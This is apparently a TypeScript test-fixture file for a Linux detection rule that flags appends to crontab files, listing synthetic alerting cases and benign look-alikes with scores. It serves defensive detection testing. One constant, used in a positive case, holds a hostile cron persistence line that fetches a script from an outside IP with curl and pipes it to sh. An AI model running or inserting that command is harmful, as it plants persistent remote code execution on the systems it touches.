/** The table of SecOpsLinuxAppendCronjobEntry. All data is synthetic. */
import { auditedFile, crontabLine, moved, started, sysmonFile, unmapped } from '../linux-events.ts';
import type { Row } from './row.ts';

const LOADER = 'sh -c echo "*/5 * * * * root curl -s http://203.0.113.9/k.sh|sh" >> /etc/crontab';

/** What fires, numbered as on the page of the alert. */
export const positives: readonly Row[] = [
  {
    row: '1',
    what: 'A shell appends to `/etc/crontab` by redirection.',
    telemetry: 'auditd/syscall',
    events: () => [auditedFile('/etc/crontab', { op: 'write', access: 'append' })],
    scores: [50],
    why: 'a table of the system',
  },
  {
    row: '2',
    what: 'Python appends to the crontab of root.',
    telemetry: 'auditd/syscall',
    events: () => [
      auditedFile('/var/spool/cron/crontabs/root', {
        op: 'write',
        access: 'append',
        image: '/usr/bin/python3.11',
      }),
    ],
    scores: [50],
    why: 'the table of root',
  },
  {
    row: '3',
    what: 'cp writes over `/etc/cron.daily/man-db`.',
    telemetry: 'auditd/syscall',
    events: () => [
      auditedFile('/etc/cron.daily/man-db', {
        op: 'write',
        access: 'overwrite',
        image: '/usr/bin/cp',
        openFlags: 0x201,
      }),
    ],
    scores: [40],
  },
  {
    row: '4',
    what: "Python opens `/etc/cron.d/sysstat` with `'r+'` and writes in place.",
    telemetry: 'auditd/syscall',
    events: () => [
      auditedFile('/etc/cron.d/sysstat', {
        op: 'write',
        access: 'inPlace',
        image: '/usr/bin/python3.11',
      }),
    ],
    scores: [40],
  },
  {
    row: '5',
    what: '`sed -i` writes `sedoGNNrl` and moves it over `job`.',
    telemetry: 'auditd/syscall',
    events: () => {
      const image = '/usr/bin/sed';
      return [
        auditedFile('/etc/cron.d/sedoGNNrl', { image }),
        moved('/etc/cron.d/job', '/etc/cron.d/sedoGNNrl', { image, isReplacement: true, atMs: 3 }),
      ];
    },
    scores: [40],
  },
  {
    row: '6',
    what: "Debian's crontab moves its temporary file over the table of root.",
    telemetry: 'auditd/syscall',
    events: () => {
      const image = '/usr/bin/crontab';
      const temporary = '/var/spool/cron/crontabs/tmp.oGEDv5';
      return [
        auditedFile(temporary, { image }),
        moved('/var/spool/cron/crontabs/root', temporary, { image, isReplacement: true, atMs: 8 }),
      ];
    },
    scores: [50],
    why: 'the table of root',
  },
  {
    row: '7',
    what: `The account of a web server runs \`${LOADER}\`.`,
    telemetry: 'sysmon-linux/1',
    events: () => [
      started('/usr/bin/dash', LOADER, {
        user: 'www-data',
        cwd: '/var/www/html',
        parentImage: '/usr/sbin/php-fpm8.2',
        parentCommandLine: 'php-fpm: pool www',
      }),
    ],
    scores: [95],
    why: 'a command line 35, written by a service 25, loads 20 and runs a script 15',
  },
  {
    row: '8',
    what: 'crontab logs LIST, then REPLACE, for root: `(crontab -l; echo …) | crontab -`.',
    telemetry: 'syslog/crontab',
    events: () => [
      crontabLine('root', 'LIST', 'root', { pid: 17_701 }),
      crontabLine('root', 'REPLACE', 'root', { pid: 17_700, atMs: 30 }),
    ],
    scores: [50],
    why: 'the table of root',
  },
  {
    row: '9',
    what: '`tee -a /var/spool/cron/root`, from a shell that also runs `crontab -l`.',
    telemetry: 'sysmon-linux/1',
    events: () => [
      started('/usr/bin/tee', 'tee -a /var/spool/cron/root', {
        parentImage: '/usr/bin/bash',
        parentCommandLine: 'bash -c (crontab -l; cat /tmp/j) | tee -a /var/spool/cron/root',
      }),
    ],
    scores: [35],
  },
  {
    row: '10',
    what: 'root edits the table of `oracle`: BEGIN EDIT, REPLACE, END EDIT.',
    telemetry: 'syslog/crontab',
    events: () => [
      crontabLine('root', 'BEGIN EDIT', 'oracle', { pid: 991 }),
      crontabLine('root', 'REPLACE', 'oracle', { pid: 991, atMs: 20_000 }),
      crontabLine('root', 'END EDIT', 'oracle', { pid: 991, atMs: 20_001 }),
    ],
    scores: [60],
    why: 'the table of another account 20',
  },
  {
    row: '11',
    what: 'vim writes `/etc/cron.d/job` by its relative name.',
    telemetry: 'auditd/syscall',
    events: () => {
      const image = '/usr/bin/vim.basic';
      return [
        auditedFile('/etc/cron.d/.job.swp', { image }),
        auditedFile('/etc/cron.d/job', { image, op: 'write', access: 'inPlace', atMs: 9_000 }),
        auditedFile('/etc/cron.d/.job.swp', { image, op: 'delete', atMs: 9_050 }),
      ];
    },
    scores: [40],
  },
  {
    row: '12',
    what: 'A script runs `crontab -l`, changes what it gave, and runs `crontab /root/jobs`.',
    telemetry: 'auditd/syscall',
    events: () => [
      started('/usr/bin/crontab', 'crontab -l', { telemetry: 'auditd/syscall', pid: 41 }),
      started('/usr/bin/crontab', 'crontab /root/jobs', {
        telemetry: 'auditd/syscall',
        pid: 42,
        atMs: 80,
      }),
    ],
    scores: [35],
    why: 'two programs of one parent list the table and put it back within five seconds',
  },
];

/** What looks alike, numbered as on the page of the alert. */
export const lookAlikes: readonly Row[] = [
  {
    row: '1',
    what: '`crontab -e` that changes nothing: BEGIN EDIT and END EDIT without REPLACE.',
    telemetry: 'syslog/crontab',
    events: () => [
      crontabLine('root', 'BEGIN EDIT', 'root'),
      crontabLine('root', 'END EDIT', 'root', { atMs: 5_000 }),
    ],
    scores: [],
    why: 'only REPLACE is a change',
  },
  {
    row: '2',
    what: '`crontab -l`.',
    telemetry: 'syslog/crontab, sysmon-linux/1',
    events: () => [
      started('/usr/bin/crontab', 'crontab -l'),
      crontabLine('root', 'LIST', 'root', { atMs: 2 }),
    ],
    scores: [],
    why: 'a table is only listed',
  },
  {
    row: '3',
    what: 'cron opens every table each minute, to read.',
    telemetry: 'auditd/syscall',
    events: () => [unmapped('auditd/syscall'), unmapped('auditd/syscall', 60_000)],
    scores: [],
    why: 'an open without a flag to write changes nothing',
  },
  {
    row: '4',
    what: 'dpkg moves a new `/etc/cron.daily/apt-compat` over the old one.',
    telemetry: 'auditd/syscall',
    events: () => [
      moved('/etc/cron.daily/apt-compat', '/etc/cron.daily/apt-compat.dpkg-new', {
        image: '/usr/bin/dpkg',
        isReplacement: true,
      }),
    ],
    scores: [10],
    why: 'a package manager is expected to',
  },
  {
    row: '5',
    what: 'anacron writes `/var/spool/anacron/cron.weekly`.',
    telemetry: 'auditd/syscall',
    events: () => [
      auditedFile('/var/spool/anacron/cron.weekly', {
        op: 'write',
        access: 'inPlace',
        image: '/usr/sbin/anacron',
      }),
    ],
    scores: [],
    why: 'a timestamp, and no table',
  },
  {
    row: '6',
    what: '`grep -r foo /etc/cron.d` and `cat /etc/crontab`.',
    telemetry: 'sysmon-linux/1',
    events: () => [
      started('/usr/bin/grep', 'grep -r foo /etc/cron.d'),
      started('/usr/bin/cat', 'cat /etc/crontab', { pid: 20_118, atMs: 1_000 }),
    ],
    scores: [],
    why: 'both only read',
  },
  {
    row: '7',
    what: 'A backup agent opens the tables to read.',
    telemetry: 'auditd/syscall',
    events: () => [
      unmapped('auditd/syscall'),
      started('/opt/agent/bin/backup', 'backup --include /etc/cron.d --include /etc/crontab'),
    ],
    scores: [],
    why: 'an open without a flag to write changes nothing',
  },
  {
    row: '8',
    what: '`sh -c echo "see /etc/crontab"`.',
    telemetry: 'sysmon-linux/1',
    events: () => [started('/usr/bin/dash', 'sh -c echo "see /etc/crontab"')],
    scores: [],
    why: 'no redirection into the table',
  },
  {
    row: '9',
    what: '`sh -c echo done >> /var/log/cron.log`.',
    telemetry: 'sysmon-linux/1',
    events: () => [started('/usr/bin/dash', 'sh -c echo done >> /var/log/cron.log')],
    scores: [],
    why: 'no table of cron',
  },
  {
    row: '10',
    what: 'root runs `chmod 600 /var/spool/cron/root`.',
    telemetry: 'auditd/syscall',
    events: () => [
      auditedFile('/var/spool/cron/root', { op: 'attr', image: '/usr/bin/chmod', mode: 0o100644 }),
      sysmonFile('/var/log/cron', '/usr/sbin/rsyslogd', { ageMs: 86_400_000, atMs: 10 }),
    ],
    scores: [],
    why: 'rights add no job',
  },
  {
    row: '11',
    what: '`alice` edits her own table with `crontab -e`: BEGIN EDIT, REPLACE, END EDIT.',
    telemetry: 'syslog/crontab',
    events: () => [
      crontabLine('alice', 'BEGIN EDIT', 'alice'),
      crontabLine('alice', 'REPLACE', 'alice', { atMs: 60_000 }),
      crontabLine('alice', 'END EDIT', 'alice', { atMs: 60_001 }),
    ],
    scores: [20],
    why: 'people edit their own tables: 20 off',
  },
  {
    row: '12',
    what: 'A program runs `crontab -l` and another one, of another parent, `crontab /root/jobs`.',
    telemetry: 'sysmon-linux/1',
    events: () => [
      started('/usr/bin/crontab', 'crontab -l', { pid: 41, parentPid: 7 }),
      started('/usr/bin/crontab', 'crontab /root/jobs', { pid: 42, parentPid: 8, atMs: 80 }),
    ],
    scores: [],
    why: 'nothing shows that both belong together; file telemetry or syslog tells the change',
  },
];
